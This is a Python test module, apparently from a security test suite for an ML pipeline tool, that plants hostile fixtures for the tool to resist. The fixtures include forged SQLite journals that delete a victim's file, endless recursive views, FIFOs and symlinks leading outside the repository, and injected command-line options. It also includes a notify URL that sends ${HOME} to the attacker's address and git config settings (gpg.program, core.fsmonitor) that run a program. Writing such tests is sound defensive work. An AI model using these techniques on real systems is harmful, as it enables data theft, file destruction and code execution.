"""What a stranger plants where models are kept, told about, served, watched and made
again: databases that compute or name other files, addresses in records, settings that
would be options of programs."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
from collections.abc import Iterable
from contextlib import closing
from pathlib import Path

from jupyter_pipe.trust.keys import key_of
from jupyter_pipe.trust.signatures import sign
from tests.hostile.attacks import attack
from tests.hostile.attacks.shown import CONTROLS, PAGE
from tests.hostile.repository import STRANGER, Repository

REGISTRY = "models lineage promote rollback score serve package impact register"
# A service waits until there is a version that it can load, and says so.
ANSWERING = REGISTRY.replace("serve ", "")
WITHOUT_END = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT"
TABLES = {
    "registered_models": "name",
    "model_versions": "name, version, creation_time, storage_location, source, current_stage",
    "model_version_tags": "name, version, key, value",
    "registered_model_aliases": "name, alias, version",
    "registered_model_tags": "name, key, value",
}
_JOURNAL = bytes.fromhex("d9d505f920a163d7")


def write_database(path: Path, script: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with closing(sqlite3.connect(path)) as database:
        database.executescript(script)


def insert_rows(path: Path, rows: Iterable[tuple[str, list[object]]]) -> None:
    """Table and row of each."""
    with closing(sqlite3.connect(path)) as database, database:
        for table, row in rows:
            database.execute(
                f"INSERT INTO {table} VALUES ({', '.join('?' * len(row))})", row
            )


def _registry(
    repository: Repository, *, storage: str, made: str = "1000", number: str = "1"
) -> None:
    """A registry with one version of `flow`, its champion. `made` and `number` are
    SQL."""
    storage = storage.replace("'", "''")
    tables = "".join(
        f"CREATE TABLE {name} ({columns});" for name, columns in TABLES.items()
    )
    write_database(
        repository.state / "mlflow.db",
        f"""{tables}
        INSERT INTO registered_models VALUES ('flow');
        INSERT INTO model_versions VALUES ('flow', {number}, {made}, '{storage}', '', 'None');
        INSERT INTO model_version_tags VALUES ('flow', {number}, 'jupyter_pipe.digest', 'd');
        INSERT INTO registered_model_aliases VALUES ('flow', 'champion', {number});""",
    )


@attack(
    "tables of databases are views that count without end", only=f"{REGISTRY} monitor"
)
def views_without_end(repository: Repository) -> None:
    views = "".join(
        f"CREATE VIEW {name}({columns}) AS {WITHOUT_END} {', '.join(['i'] * len(columns.split(',')))} FROM n;"
        for name, columns in TABLES.items()
    )
    write_database(repository.state / "mlflow.db", views)
    index = "PRAGMA user_version = 2; CREATE VIEW runs(run_id) AS {0} i FROM n; CREATE VIEW made(signature)"
    write_database(
        repository.state / "lineage.sqlite",
        f"{index.format(WITHOUT_END)} AS {WITHOUT_END} i FROM n;",
    )
    log = f"CREATE VIEW masks(dropped, hashed) AS {WITHOUT_END} i, i FROM n;"
    write_database(
        repository.state / "serving" / "flow" / "log" / "requests-1.sqlite", log
    )


@attack(
    "the registry says that a version lies with the stranger's server", only=ANSWERING
)
def versions_elsewhere(repository: Repository) -> None:
    _registry(repository, storage=f"http://{repository.address}/model")


@attack("the registry holds values of other types, and controls", only=REGISTRY)
def versions_of_nothing(repository: Repository) -> None:
    _registry(
        repository,
        storage=f"/{'a' * 5000}",
        made="'yesterday'",
        number=f"'{CONTROLS[:8]}'",
    )


@attack("a version's bundle is a pipe", only=ANSWERING)
def version_is_a_pipe(repository: Repository) -> None:
    bundle = repository.state / "mlflow" / "m" / "artifacts" / "bundle"
    bundle.mkdir(parents=True)
    for path in (bundle / "bundle.json", bundle.parent / "lineage.json"):
        os.mkfifo(path)
    _registry(repository, storage=str(repository.state / "mlflow" / "m"))


@attack("databases and locks are pipes", only=f"{REGISTRY} monitor track loop")
def databases_are_pipes(repository: Repository) -> None:
    log = repository.state / "serving" / "flow" / "log"
    loop = repository.state / "loops" / "flow"
    for folder in (log, loop):
        folder.mkdir(parents=True)
    (repository.folder / "flow.loop.yaml").write_text("cooldown: 1h\n")
    names = (
        "mlflow.db",
        "lineage.sqlite",
        "registry.lock",
        "mlflow.lock",
        "tracking.lock",
    )
    for path in (
        *(repository.state / name for name in names),
        log / "requests-1.sqlite",
        loop / "loop.lock",
    ):
        os.mkfifo(path)


def name_file_in_journal(database: Path, file: Path) -> None:
    """Leave a journal that SQLite rolls back, and then removes the file that it
    names."""
    pages = database.stat().st_size // 4096
    header = _JOURNAL + (0).to_bytes(4, "big") * 2 + pages.to_bytes(4, "big")
    header += (512).to_bytes(4, "big") + (4096).to_bytes(4, "big")
    name = os.fsencode(file)
    told = (
        (262145).to_bytes(4, "big")
        + name
        + len(name).to_bytes(4, "big")
        + sum(name).to_bytes(4, "big")
    )
    Path(f"{database}-journal").write_bytes(header.ljust(512, b"\0") + told + _JOURNAL)


@attack("journals beside databases name a file of the victim", only=f"{REGISTRY} track")
def journals_that_name_files(repository: Repository) -> None:
    _registry(repository, storage="/nowhere")
    write_database(repository.state / "lineage.sqlite", "CREATE TABLE t (x);")
    for name in ("mlflow.db", "lineage.sqlite"):
        name_file_in_journal(
            repository.state / name, repository.outside / "private.txt"
        )


@attack("the index of files says that the stranger's rows are ours", only="impact")
def index_of_a_stranger(repository: Repository) -> None:
    path = repository.state / "lineage.sqlite"
    write_database(
        path,
        """PRAGMA user_version = 2;
        CREATE TABLE runs (run_id, notebook, state, queued, commit_id);
        CREATE TABLE files (run_id, stage, path, digest, role);
        CREATE TABLE made (signature);""",
    )
    rows: dict[str, list[object]] = {
        "made": [sign("lineage index", str(path), b"{}", key=key_of(STRANGER))],
        "files": ["r", CONTROLS, str(repository.folder / "data.csv"), 7, b"\xff"],
        "runs": ["r", 1, None, "now", b"\0"],
    }
    insert_rows(path, rows.items())


@attack("what trackers have not heard names the stranger's address", only="track")
def outbox_of_a_stranger(repository: Repository) -> None:
    told = {
        f"openlineage+http://{repository.address}/": 0,
        f"openlineage+{(repository.outside / 'taken.jsonl').as_uri()}": 0,
    }
    document = json.dumps({"told": told, "done": []}).encode()
    for run in repository.state.glob("runs/2*"):
        (run / "tracking.json").write_bytes(
            sign("tracking", run.name, document, key=key_of(STRANGER))
        )


@attack("the request log holds what no service writes", only="monitor")
def log_of_a_stranger(repository: Repository) -> None:
    log = repository.state / "serving" / "flow" / "log"
    page = PAGE.format(address=repository.address)
    shown = json.dumps(
        {
            "code": "c",
            "message": CONTROLS,
            "column": f"{CONTROLS}{page}",
            "rule": CONTROLS,
        }
    )
    up = "../../../../outside"
    lines: dict[str, list[object]] = {
        "nulls": [None, 1e9, *[None] * 8],
        "bytes": [b"\xff", 1e9, "a", b"\xff", up, "r", "x", b"[]", "[", "{"],
        "deep": ["a", 1e9, 200, "1", "/", "champion", 1.0, "[" * 50_000, "[]", None],
        "large": ["a", 1e9, 200, "1", up, "champion", 1e308, "[{}]", "[1e308]", None],
        "shown": [
            "a",
            1e9,
            422,
            f"{CONTROLS}{page}",
            "d",
            "champion",
            1.0,
            "[]",
            "[]",
            shown,
        ],
    }
    for name, line in lines.items():
        path = log / f"requests-{name}.sqlite"
        columns = (
            "id, at, status, version, digest, role, seconds, rows, predictions, problem"
        )
        write_database(
            path,
            f"CREATE TABLE answers ({columns}); CREATE TABLE masks (dropped, hashed);",
        )
        insert_rows(path, [("answers", line)] * 9)
    (log / "requests-link.sqlite").symlink_to(repository.outside / "private.txt")


@attack(
    "folders of loops, services and models are links to folders of the victim",
    runs="loop serve",
    only="loop monitor package",
)
def operated_elsewhere(repository: Repository) -> None:
    (repository.folder / "flow.loop.yaml").write_text("cooldown: 1h\n")
    for name in (
        "loops/flow",
        "serving/flow/log",
        "serving/flow/bundles",
        "mlflow/runs/models",
    ):
        target = repository.outside / name.replace("/", "-")
        target.mkdir()
        (repository.state / name).parent.mkdir(parents=True, exist_ok=True)
        (repository.state / name).symlink_to(target)


@attack(
    "a loop's settings are options of programs, and its commit has a signature",
    only="loop",
)
def settings_that_act(repository: Repository) -> None:
    (repository.folder / "flow.loop.yaml").write_text(
        f"drift: true\nquality: true\ncommit: true\nmodel: --html=../outside/taken.html\n"
        f"labels: --html=../outside/taken.html\nnotify: ['json://{repository.address}/${{HOME}}']\n"
    )
    _sign_commit(repository)


@attack(
    "a loop watches a commit whose signature a program of the repository checks",
    only="loop",
)
def commit_that_is_checked(repository: Repository) -> None:
    (repository.folder / "flow.loop.yaml").write_text(
        "commit: true\nfiles: ['**/*', 'elsewhere/*']\n"
    )
    (repository.folder / "elsewhere").symlink_to("/proc/self")
    _sign_commit(repository)


def _sign_commit(repository: Repository) -> None:
    """Make the folder a repository whose one commit has a signature, which git is set
    to show."""

    def git(*arguments: str, given: str = "") -> str:
        command = ["git", "-c", "user.name=s", "-c", "user.email=s@s", *arguments]
        done = subprocess.run(
            command,
            cwd=repository.folder,
            input=given,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout

    git("init", "-q", "-b", "main")
    git("add", "flow.ipynb")
    git("commit", "-q", "-m", "flow")
    head, _, message = git("cat-file", "commit", "HEAD").partition("\n\n")
    armour = "-----BEGIN PGP SIGNATURE-----\n \n iQ\n -----END PGP SIGNATURE-----"
    signed = git(
        "hash-object",
        "-t",
        "commit",
        "-w",
        "--stdin",
        given=f"{head}\ngpgsig {armour}\n\n{message}",
    )
    git("reset", "-q", signed.strip())
    program = repository.program("check", "commit")
    for name, value in {
        "gpg.program": program,
        "log.showSignature": "true",
        "core.fsmonitor": program,
    }.items():
        git("config", name, str(value))


@attack(
    "a loop's records promote and notify, and the stranger signed them",
    runs="loop",
    only="loop",
)
def loop_of_a_stranger(repository: Repository) -> None:
    (repository.folder / "flow.loop.yaml").write_text(
        f"files: false\npromote: auto\nnotify: json://{repository.address}/\n"
    )
    record = json.dumps({"record": "promoted", "time": 1.0, "version": 1}).encode()
    signed = sign("loop", "flow:1", record, key=key_of(STRANGER)).replace(b"\n", b"")
    folder = repository.state / "loops" / "flow"
    folder.mkdir(parents=True)
    (folder / "loop.jsonl").write_bytes(signed + b"\n")
